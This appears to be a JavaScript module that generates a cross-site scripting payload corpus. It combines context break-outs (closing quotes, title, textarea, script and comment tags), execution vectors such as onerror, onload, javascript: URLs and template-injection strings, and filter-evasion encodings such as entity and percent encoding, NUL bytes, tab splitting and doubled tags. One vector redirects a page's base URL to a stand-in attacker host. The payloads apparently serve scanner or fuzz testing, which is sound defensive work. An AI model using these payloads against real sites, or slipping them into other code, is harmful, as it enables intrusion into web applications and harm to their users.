// Scripts that try to get into a page, made of a grammar: a way out of where the text stands, something that runs, and a way of writing it.

const outs = {
  text: '', doubleQuote: '">', singleQuote: "'>", title: '</title>', textarea: '</textarea>', script: '</script>', comment: '-->', cdata: ']]>',
  attribute: '" x="', button: '</button></form>', mustache: '}}{{{', code: '```\n', backtick: '`">', backslash: '\\">', markdownLink: '](', mark: '</mark></p>',
};

// N is the number of the payload: whoever runs says it.
const vectors = {
  script: '<script>alert(N)</script>',
  image: '<img src=x onerror=alert(N)>',
  svg: '<svg/onload=alert(N)>',
  details: '<details open ontoggle=alert(N)>x',
  frame: '<iframe srcdoc="<script>parent.alert(N)</script>"></iframe>',
  frameAddress: '<iframe src=javascript:parent.alert(N)></iframe>',
  focus: '<input autofocus onfocus=alert(N)>',
  animation: '<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart=alert(N)>x</b>',
  link: '<a id=xss-N href=javascript:alert(N)>x</a>',
  form: '<form action=javascript:alert(N)><button id=xss-N>x</button></form>',
  markdown: '[x](javascript:alert(N))',
  markdownImage: '![x](x"onerror="alert(N))',
  autolink: '<javascript:alert(N)>',
  refresh: '<meta http-equiv=refresh content="0;url=javascript:alert(N)">',
  base: '<base href=//evil.example/><b id=xss-N>x</b>',
  object: '<object data=javascript:alert(N)></object>',
  handler: 'onmouseover=alert(N) id=xss-N autofocus onfocus=alert(N) ',
  template: "{{constructor.constructor('alert(N)')()}}${alert(N)}",
};

const everyCharacter = (text, write) => [...text].map((c) => (/[<>"'&:=(]/.test(c) ? write(c) : c)).join('');
const encodings = {
  plain: (text) => text,
  upperCase: (text) => text.replace(/<(\/?)([a-z]+)/g, (_, slash, name) => `<${slash}${name.toUpperCase()}`),
  decimal: (text) => everyCharacter(text, (c) => `&#${c.codePointAt(0)};`),
  hexadecimal: (text) => everyCharacter(text, (c) => `&#x${c.codePointAt(0).toString(16)}`),
  percent: (text) => everyCharacter(text, (c) => `%${c.codePointAt(0).toString(16)}`),
  twicePercent: (text) => everyCharacter(text, (c) => `%25${c.codePointAt(0).toString(16)}`),
  javaScript: (text) => everyCharacter(text, (c) => `\\u00${c.codePointAt(0).toString(16)}`),
  nul: (text) => text.replace(/(<\/?[a-z]|javascript)/g, (m) => `${m}\u0000`),
  split: (text) => text.replace(/javascript:/g, 'java\tscr\nipt:').replace(/ on/g, '\non'),
  slashes: (text) => text.replace(/<([a-z]+) /g, '<$1/').replace(/ on/g, '/on'),
  wide: (text) => everyCharacter(text, (c) => String.fromCodePoint(c.codePointAt(0) + 0xfee0)),
  twice: (text) => text.replace(/<script>/g, '<scr<script>ipt>').replace(/onerror/g, 'ononerrorerror'),
};

// [{id, name, text}]: out × vector × encoding.
export const payloads = Object.entries(outs).flatMap(([out, before]) =>
  Object.entries(vectors).flatMap(([vector, what]) =>
    Object.entries(encodings).map(([encoding, write]) => ({ name: `${out}/${vector}/${encoding}`, raw: before + what, write })),
  ),
).map(({ name, raw, write }, id) => ({ id, name, text: write(raw.replaceAll('N', String(id))) }));

export const rawVectors = Object.values(vectors).map((text, id) => ({ id, text: text.replaceAll('N', String(id)) }));
